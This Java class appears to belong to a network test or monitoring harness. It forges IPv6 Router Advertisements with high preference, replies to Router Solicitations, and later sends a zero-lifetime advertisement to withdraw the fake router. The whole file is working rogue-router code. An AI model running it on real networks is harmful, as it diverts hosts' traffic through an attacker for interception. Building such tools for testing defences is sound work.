package cofferdam.attacks.network;

import cofferdam.monitor.NetworkSetup;
import cofferdam.monitor.address.Ipv6Address;
import cofferdam.monitor.packet.Icmpv6;
import cofferdam.monitor.packet.Icmpv6.PrefixInformation;
import cofferdam.monitor.packet.Icmpv6.RouterAdvertisement;
import cofferdam.monitor.packet.Icmpv6.RouterPreference;
import cofferdam.monitor.packet.Icmpv6.RouterSolicitation;
import cofferdam.monitor.packet.Ipv6Packet;

import java.util.List;
import java.util.Optional;
import java.util.OptionalInt;

/**
 * Advertisements of a router that is none. They name the prefix that the link has, so that nobody's
 * address changes.
 */
final class RouterLies implements DiscoveryLies {

    private static final int HOP_LIMIT = 64;
    private static final int LIFETIME_SECONDS = 1800;
    private static final int PREFIX_BITS = 64;
    private static final long VALID_SECONDS = 86_400;
    private static final long PREFERRED_SECONDS = 14_400;

    private final Foothold foothold;

    RouterLies(Foothold foothold) {
        this.foothold = foothold;
    }

    @Override
    public List<byte[]> told() {
        return List.of(advertisement(LIFETIME_SECONDS));
    }

    @Override
    public List<byte[]> answers(byte[] frame) {
        boolean asked = Ipv6Packet.inFrame(frame)
                .flatMap(Icmpv6::inPacket)
                .filter(RouterSolicitation.class::isInstance)
                .isPresent();
        return asked ? told() : List.of();
    }

    /** A lifetime of zero: no default router any more (RFC 4861 section 6.2.5). */
    @Override
    public List<byte[]> truth() {
        return List.of(advertisement(0));
    }

    private byte[] advertisement(int lifetime) {
        Ipv6Address own = Ipv6Address.eui64(Ipv6Address.LINK_LOCAL, foothold.hardware());
        Ipv6Address all = Ipv6Address.ALL_NODES;
        var prefix = new PrefixInformation(
                new Ipv6Address(NetworkSetup.IPV6_PREFIX, 0),
                PREFIX_BITS,
                true,
                true,
                VALID_SECONDS,
                PREFERRED_SECONDS);
        Icmpv6 message = new RouterAdvertisement(
                HOP_LIMIT,
                RouterPreference.HIGH,
                lifetime,
                Optional.of(foothold.hardware()),
                OptionalInt.empty(),
                List.of(prefix));
        return message.toPacket(own, all, Icmpv6.NEIGHBOUR_DISCOVERY_HOP_LIMIT)
                .toFrame(all.multicastMac(), foothold.hardware());
    }
}
